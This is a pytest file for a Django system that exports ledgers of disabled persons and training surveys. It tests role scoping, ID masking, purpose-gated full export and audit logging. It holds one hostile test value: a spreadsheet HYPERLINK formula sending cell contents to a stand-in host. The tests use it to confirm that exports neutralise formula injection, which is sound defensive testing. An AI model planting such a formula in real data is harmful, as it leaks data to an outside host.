"""Ledgers (台账) of persons and surveys: scoped, masked unless the role may reveal, marked with
who exported them and when, no cell a spreadsheet would run, every export audited."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from canpei.audit.models import AuditEntry
from canpei.errors import Forbidden, InvalidInput
from canpei.people.exports import PERSON_HEADERS, SURVEY_HEADERS, persons_export, surveys_export
from canpei.people.selectors import PersonFilters
from canpei.people.services import person_create
from canpei.people.surveys.services import survey_create
from tests.conftest import ANHAI, CIZAO, make_id, person_data
from tests.spreadsheets.files import read_back

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def evil_person(users):
    return person_create(
        actor=users.city_admin,
        data=person_data(
            name="王五",
            id_number=make_id("35058219800101002"),
            cert_number="",
            address=EVIL,
            phone="13800001111",
        ),
    )


@pytest.fixture
def surveys(person_in, person_out, users):
    return [
        survey_create(
            actor=users.city_admin,
            data={
                "person": p.pk,
                "year": 2025,
                "surveyed_on": "2025-06-30",
                "training_need": True,
                "wanted_skills": ["ecommerce"],
                "employer": EVIL,
            },
        )
        for p in (person_in, person_out)
    ]


def export_persons(actor, purpose=None, **filters) -> list[list[Any]]:
    out = io.BytesIO()
    persons_export(actor=actor, filters=PersonFilters(**filters), out=out, purpose=purpose)
    return read_back(out.getvalue())


def test_the_persons_ledger_has_chinese_headers_exporter_and_time(person_in, users):
    rows = export_persons(users.city_admin)
    assert rows[0][0] == "残疾人实名制台账"
    assert rows[1][0].startswith("导出人：city（city）　导出时间：20")
    assert rows[3] == PERSON_HEADERS
    assert rows[4][:9] == [
        1,
        "张三",
        person_in.id_number_masked,
        person_in.cert_number_masked,
        "男",
        person_in.birth_date,
        "肢体残疾",
        "二级",
        "安海镇",
    ]


@pytest.mark.parametrize("role", ["city_admin", "town_staff", "employment_service", "auditor"])
def test_numbers_are_masked_unless_asked_for(person_in, users, role):
    row = export_persons(getattr(users, role))[4]
    assert row[2:4] == [person_in.id_number_masked, person_in.cert_number_masked]
    assert "*" in row[2] and person_in.id_number not in str(row)
    entry = AuditEntry.objects.get(action="export.persons")
    assert (entry.actor_id, entry.changes["rows"], entry.changes["full_numbers"]) == (
        getattr(users, role).pk,
        1,
        False,
    )
    assert entry.summary == "导出人员台账 1 行（脱敏）" and "purpose" not in entry.changes


@pytest.mark.parametrize("role", ["city_admin", "town_staff"])
def test_full_numbers_with_a_purpose_for_roles_that_may_reveal_them(person_in, users, role):
    row = export_persons(getattr(users, role), purpose="  核对补贴发放名单 ")[4]
    assert row[2:4] == [person_in.id_number, person_in.cert_number]
    entry = AuditEntry.objects.get(action="export.persons")
    assert (entry.changes["full_numbers"], entry.changes["purpose"]) == (True, "核对补贴发放名单")
    assert entry.summary == "导出人员台账 1 行（完整证件号），用途：核对补贴发放名单"


@pytest.mark.parametrize("role", ["employment_service", "auditor"])
def test_full_numbers_are_refused_to_roles_that_may_not_reveal(person_in, users, role):
    with pytest.raises(Forbidden) as refused:
        export_persons(getattr(users, role), purpose="核对")
    assert refused.value.message == "无权导出完整证件号码"
    assert not AuditEntry.objects.filter(action="export.persons").exists()


@pytest.mark.parametrize(
    "purpose, message",
    [
        ("", "导出完整证件号码须填写用途"),
        ("   ", "导出完整证件号码须填写用途"),
        ("字" * 101, "用途不能超过 100 个字"),
    ],
)
def test_full_numbers_need_a_purpose_of_at_most_100_characters(person_in, users, purpose, message):
    with pytest.raises(InvalidInput) as refused:
        export_persons(users.city_admin, purpose=purpose)
    assert refused.value.errors == [("purpose", message)]
    assert not AuditEntry.objects.filter(action="export.persons").exists()
    row = export_persons(users.city_admin, purpose="字" * 100)[4]
    assert row[2] == person_in.id_number


def test_town_staff_export_only_their_town(person_in, person_out, users):
    names = [r[1] for r in export_persons(users.town_staff)[4:]]
    assert names == ["张三"]
    assert [r[1] for r in export_persons(users.town_staff, town=CIZAO)[4:]] == []
    assert [r[1] for r in export_persons(users.city_admin, town=CIZAO)[4:]] == ["李四"]
    assert [r[1] for r in export_persons(users.city_admin)[4:]] == ["张三", "李四"]


def test_roles_without_the_export_permission_cannot_export(person_in, users):
    for role in ("institution_staff", "sys_admin", "security_admin", "audit_admin"):
        with pytest.raises(Forbidden):
            persons_export(actor=getattr(users, role), filters=PersonFilters(), out=io.BytesIO())
        with pytest.raises(Forbidden):
            surveys_export(actor=getattr(users, role), out=io.BytesIO())
    assert not AuditEntry.objects.filter(action__startswith="export.").exists()


def test_no_cell_of_the_persons_ledger_starts_a_formula(evil_person, users):
    rows = export_persons(users.city_admin)
    assert rows[4][9] == "'" + EVIL
    assert not [
        c for row in rows for c in row if isinstance(c, str) and c.startswith(FORMULA_START)
    ]


def test_the_persons_ledger_as_csv(person_in, evil_person, users):
    out = io.StringIO()
    count = persons_export(actor=users.auditor, filters=PersonFilters(), out=out, fmt="csv")
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert count == 2
    assert rows[0][0].startswith("# 导出人：auditor（auditor） 导出时间：")
    assert rows[1] == PERSON_HEADERS
    assert [r[2] for r in rows[2:]] == [person_in.id_number_masked, evil_person.id_number_masked]
    assert not [c for row in rows for c in row if c.startswith(FORMULA_START)]
    assert AuditEntry.objects.get(action="export.persons").changes["format"] == "csv"


def test_the_surveys_ledger_is_scoped_masked_neutralised_and_audited(surveys, person_in, users):
    out = io.BytesIO()
    assert surveys_export(actor=users.town_staff, out=out, year=2025) == 1
    rows = read_back(out.getvalue())
    assert rows[0][0] == "2025年度残疾人就业培训需求调查台账"
    assert rows[3] == SURVEY_HEADERS
    assert rows[4][:5] == [1, "张三", person_in.id_number_masked, "安海镇", 2025]
    assert rows[4][8] == "'" + EVIL and rows[4][15] == "电子商务"
    out = io.BytesIO()
    assert surveys_export(actor=users.employment_service, out=out, town=ANHAI) == 1
    assert read_back(out.getvalue())[4][2] == person_in.id_number_masked
    entries = AuditEntry.objects.filter(action="export.surveys").order_by("pk")
    assert [(e.changes["rows"], e.changes["full_numbers"]) for e in entries] == [
        (1, False),
        (1, False),
    ]
    out = io.BytesIO()
    assert surveys_export(actor=users.town_staff, out=out, year=2025, purpose="入户核对") == 1
    assert read_back(out.getvalue())[4][2] == person_in.id_number


def test_the_surveys_ledger_as_csv(surveys, users):
    out = io.StringIO()
    assert surveys_export(actor=users.city_admin, out=out, fmt="csv") == 2
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[1] == SURVEY_HEADERS and len(rows) == 4
    assert not [c for row in rows for c in row if c.startswith(FORMULA_START)]


# --- through the pages -------------------------------------------------------------------


def download(client, url: str) -> tuple[int, bytes, str]:
    response = client.get(url)
    body = (
        b"".join(response.streaming_content)
        if getattr(response, "streaming", False)
        else response.content
    )
    return response.status_code, body, response.get("Content-Disposition", "")


def test_the_export_buttons_download_the_filtered_ledger(person_in, person_out, users, login):
    status, body, disposition = download(login(users.city_admin), f"/persons/export?town={CIZAO}")
    assert status == 200 and "attachment" in disposition and ".xlsx" in disposition
    assert [r[1] for r in read_back(body)[4:]] == ["李四"]
    status, body, disposition = download(
        login(users.employment_service), "/persons/export?format=csv"
    )
    text = body.decode("utf-8-sig")
    assert status == 200 and ".csv" in disposition
    assert person_in.id_number_masked in text and person_in.id_number not in text
    assert AuditEntry.objects.filter(action="export.persons").count() == 2


def test_town_staff_download_only_their_town(person_in, person_out, surveys, users, login):
    client = login(users.town_staff)
    _status, body, _d = download(client, "/persons/export")
    assert [r[1] for r in read_back(body)[4:]] == ["张三"]
    _status, body, _d = download(client, f"/surveys/export?year=2025&town={CIZAO}")
    assert read_back(body)[4:] == []
    _status, body, _d = download(client, "/surveys/export?year=2025")
    assert [r[1] for r in read_back(body)[4:]] == ["张三"]


@pytest.mark.parametrize(
    "role", ["institution_staff", "sys_admin", "security_admin", "audit_admin"]
)
def test_roles_that_may_not_export_get_404(person_in, users, login, role):
    client = login(getattr(users, role))
    assert client.get("/persons/export").status_code == 404
    assert client.get("/surveys/export").status_code == 404


def test_a_bad_filter_sends_the_user_back_with_its_message(person_in, users, login):
    response = login(users.city_admin).get("/persons/export?town=abc", follow=True)
    assert response.redirect_chain[0][0] == "/persons"
    assert "镇街代码须为 12 位数字" in response.content.decode()
    assert not AuditEntry.objects.filter(action="export.persons").exists()
